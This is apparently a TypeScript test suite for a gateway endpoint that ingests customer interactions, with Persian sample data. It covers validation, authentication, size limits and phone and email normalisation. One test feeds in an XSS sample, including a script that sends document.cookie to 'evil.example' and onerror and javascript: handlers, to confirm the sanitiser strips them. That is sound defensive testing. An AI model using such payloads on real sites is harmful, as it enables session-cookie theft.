import type { AddressInfo } from 'node:net';
import { rawHttpExchange } from '@hub/testing';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { assertRefused, bearer, buildTestGateway, problemOf } from '../testing/test-gateway.ts';

const sample = (n: number) => ({
  channel: 'generic',
  source: { system: 'erp', externalId: `visit-${n}` },
  direction: 'inbound',
  occurredAt: '2026-11-20T10:15:00+03:30',
  contact: { identifiers: [{ kind: 'email', value: 'sara@example.ir' }], displayName: 'سارا رضایی' },
  threadKey: `visit-${n}`,
  summary: 'بازدید حضوری از شعبه',
  text: 'مشتری برای پیگیری سفارش ۱۲۳۴ به شعبه مراجعه کرد.',
  html: null,
  details: { channel: 'generic', system: 'erp', externalId: `visit-${n}`, attributes: { medium: 'face-to-face' } },
});

const post = async (
  body: unknown,
  headers: Record<string, string> = { ...bearer, 'content-type': 'application/json' },
) => {
  const gateway = await buildTestGateway();
  const response = await gateway.app.inject({
    method: 'POST',
    url: '/v1/interactions',
    headers,
    payload: typeof body === 'string' || Buffer.isBuffer(body) ? body : JSON.stringify(body),
  });
  return { ...gateway, response };
};

const accepts = suite('POST /v1/interactions accepts our normalised JSON');

accepts('one interaction: 202 with its deterministic id, text intact, raw bytes kept', async () => {
  const { response, intake } = await post(sample(1));
  assert.is(response.statusCode, 202);
  const [call] = intake.accepted;
  assert.is(call?.interactions.length, 1);
  assert.is(call?.interactions[0]?.text, 'مشتری برای پیگیری سفارش ۱۲۳۴ به شعبه مراجعه کرد.');
  assert.is(response.json().interactionIds[0], call?.interactions[0]?.id);
  assert.is(call?.raw.contentType, 'application/json');
  assert.equal(JSON.parse(String(call?.raw.body)), sample(1));
  const again = await post(sample(1));
  assert.is(again.response.json().interactionIds[0], response.json().interactionIds[0], 'same source id, same id');
});

accepts('a batch of 1,000 in one request', async () => {
  const { response, intake } = await post({ interactions: Array.from({ length: 1000 }, (_, n) => sample(n)) });
  assert.is(response.statusCode, 202);
  assert.is(response.json().accepted, 1000);
  assert.is(new Set(intake.accepted[0]?.interactions.map((i) => i.id)).size, 1000);
});

accepts('html is sanitised as mail is: formatting and right-to-left kept, scripts and handlers gone', async () => {
  const html =
    '<p dir="rtl">سلام <b>سارا</b></p><script>fetch("https://evil.example/"+document.cookie)</script>' +
    '<img src="https://evil.example/x.png" onerror="alert(1)"><a href="javascript:alert(2)">click</a>';
  const { response, intake } = await post({
    interactions: [
      { ...sample(1), html },
      { ...sample(2), html: null },
    ],
  });
  assert.is(response.statusCode, 202);
  const [first, second] = intake.accepted[0]?.interactions ?? [];
  assert.match(String(first?.html), '<p dir="rtl">سلام <b>سارا</b></p>');
  assert.not.match(String(first?.html), /script|onerror|javascript:|evil\.example\/\+document/);
  assert.is(second?.html, null);
});

accepts.run();

const refuses = suite('POST /v1/interactions refuses bad input with problem+json and records nothing');

const refused = async (
  name: string,
  body: unknown,
  status: number,
  detail: RegExp,
  headers?: Record<string, string>,
) => {
  const { response, intake } = await post(body, headers);
  assertRefused(name, response, intake, status, detail);
};

refuses('without or with a wrong bearer token: 401', async () => {
  await refused('no token', sample(1), 401, /bearer token/, { 'content-type': 'application/json' });
  await refused('wrong token', sample(1), 401, /bearer token/, {
    authorization: 'Bearer nope',
    'content-type': 'application/json',
  });
});

refuses('malformed JSON: 400', async () => {
  await refused('malformed', '{"channel": "generic",', 400, /not JSON/);
});

refuses('wrongly typed fields: 400 naming the field', async () => {
  await refused('text a number', { ...sample(1), text: 42 }, 400, /text/);
  await refused(
    'no identifiers',
    { ...sample(1), contact: { identifiers: [], displayName: null } },
    400,
    /identifiers/,
  );
  await refused('bad date', { ...sample(1), occurredAt: 'yesterday' }, 400, /occurredAt/);
  await refused('details of another channel', { ...sample(1), channel: 'email' }, 400, /details.channel/);
});

refuses('a batch over 1,000: 400', async () => {
  await refused('1001', { interactions: Array.from({ length: 1001 }, (_, n) => sample(n)) }, 400, /1000/);
});

refuses('wrong content type: 415', async () => {
  await refused('text/plain', 'hello', 415, /Unsupported Media Type|content type/i, {
    ...bearer,
    'content-type': 'text/plain',
  });
});

refuses('an oversized body: 413', async () => {
  const huge = { ...sample(1), text: 'x'.repeat(51 * 1024 * 1024) };
  await refused('51 MiB', huge, 413, /too large|Body/i);
});

refuses('the intake down (Kafka unreachable): 503, retriable, nothing recorded', async () => {
  const gateway = await buildTestGateway();
  gateway.intake.failWith(new Error('broker not available'));
  const response = await gateway.app.inject({
    method: 'POST',
    url: '/v1/interactions',
    headers: { ...bearer, 'content-type': 'application/json' },
    payload: JSON.stringify(sample(1)),
  });
  assert.is(response.statusCode, 503);
  assert.is(problemOf(response).code, 'INTAKE_UNAVAILABLE');
  assert.not.match(response.body, /broker not available/, 'internals stay in the log');
});

refuses.run();

const identity = suite('POST /v1/interactions normalises identifiers as the lookups do');

const withIdentifiers = (n: number, identifiers: { kind: string; value: string }[]) => ({
  ...sample(n),
  contact: { identifiers, displayName: 'سارا رضایی' },
});

identity('three spellings of one address, one at a time and in a batch: one identifier', async () => {
  const spellings = ['Sara@Example.com', 'sara@example.com', ' sara@example.com '];
  const { app, intake } = await buildTestGateway();
  for (const [n, value] of spellings.entries()) {
    const response = await app.inject({
      method: 'POST',
      url: '/v1/interactions',
      headers: { ...bearer, 'content-type': 'application/json' },
      payload: JSON.stringify(withIdentifiers(n, [{ kind: 'email', value }])),
    });
    assert.is(response.statusCode, 202, response.body);
  }
  const batch = await post({
    interactions: spellings.map((value, n) => withIdentifiers(10 + n, [{ kind: 'email', value }])),
  });
  assert.is(batch.response.statusCode, 202, batch.response.body);
  const recorded = [...intake.accepted, ...batch.intake.accepted].flatMap((call) => call.interactions);
  assert.is(recorded.length, 6);
  for (const interaction of recorded)
    assert.equal(interaction.contact.identifiers, [{ kind: 'email', value: 'sara@example.com' }]);
});

identity(
  'phones in any digits to E.164 in HUB_PHONE_REGION; handles network:id; spellings of one kept once',
  async () => {
    const { app, intake } = await buildTestGateway({ defaultPhoneRegion: 'IR' });
    const body = withIdentifiers(1, [
      { kind: 'phone', value: '۰۹۱۲۵۵۵۰۱۹۹' },
      { kind: 'phone', value: '+98 912 555 0199' },
      { kind: 'handle', value: 'Telegram:12345' },
    ]);
    const response = await app.inject({
      method: 'POST',
      url: '/v1/interactions',
      headers: { ...bearer, 'content-type': 'application/json' },
      payload: JSON.stringify(body),
    });
    assert.is(response.statusCode, 202, response.body);
    assert.equal(intake.accepted[0]?.interactions[0]?.contact.identifiers, [
      { kind: 'phone', value: '+989125550199' },
      { kind: 'handle', value: 'telegram:12345' },
    ]);
  },
);

identity('an identifier that does not normalise: 400 naming the field, not the value, nothing recorded', async () => {
  await refused(
    'not an email',
    withIdentifiers(1, [
      { kind: 'email', value: 'sara@example.com' },
      { kind: 'email', value: 'not an email at all' },
    ]),
    400,
    /^contact\.identifiers\.1\.value is not an email address$/,
  );
  await refused(
    'national phone without a region',
    withIdentifiers(1, [{ kind: 'phone', value: '۰۹۱۲۵۵۵۰۱۹۹' }]),
    400,
    /^contact\.identifiers\.0\.value is not a valid phone number/,
  );
  await refused('handle without a network', withIdentifiers(1, [{ kind: 'handle', value: '12345' }]), 400, /handle/);
});

identity('one bad identifier in a batch refuses the whole batch, naming the item', async () => {
  const batch = {
    interactions: [
      withIdentifiers(1, [{ kind: 'email', value: 'Sara@Example.com' }]),
      withIdentifiers(2, [{ kind: 'phone', value: 'call me maybe' }]),
    ],
  };
  const { response, intake } = await post(batch);
  assertRefused(
    'batch',
    response,
    intake,
    400,
    /^interactions\.1\.contact\.identifiers\.0\.value is not a valid phone/,
  );
  assert.not.match(response.body, /call me maybe/, 'the value is not echoed');
});

identity.run();

const early = suite('POST /v1/interactions checks the token before it reads the body');

early('a 10 MB body announced without a token: 401 problem+json after 1 KB, the rest never needed', async () => {
  const { app, intake } = await buildTestGateway();
  await app.listen({ port: 0, host: '127.0.0.1' });
  try {
    const exchange = await rawHttpExchange({
      port: (app.server.address() as AddressInfo).port,
      pieces: [
        'POST /v1/interactions HTTP/1.1\r\nHost: hub\r\nContent-Type: application/json\r\n' +
          `Content-Length: ${10 * 1024 * 1024}\r\n\r\n`,
        `{"text":"${'x'.repeat(1024)}`,
      ],
      intervalMs: 50,
      timeoutMs: 3000,
    });
    assert.match(
      exchange.response,
      /^HTTP\/1\.1 401 /,
      `answered: ${exchange.response.slice(0, 100) || 'nothing in 3 s'}`,
    );
    assert.match(exchange.response, /application\/problem\+json/);
    assert.match(exchange.response, /bearer token/);
    assert.is(intake.accepted.length, 0);
  } finally {
    await app.close();
  }
});

early('a body over the 50 MB limit without a token: 401, not 413', async () => {
  const { response, intake } = await post(
    { ...sample(1), text: 'x'.repeat(51 * 1024 * 1024) },
    { 'content-type': 'application/json' },
  );
  assertRefused('51 MiB, no token', response, intake, 401, /bearer token/);
});

early.run();
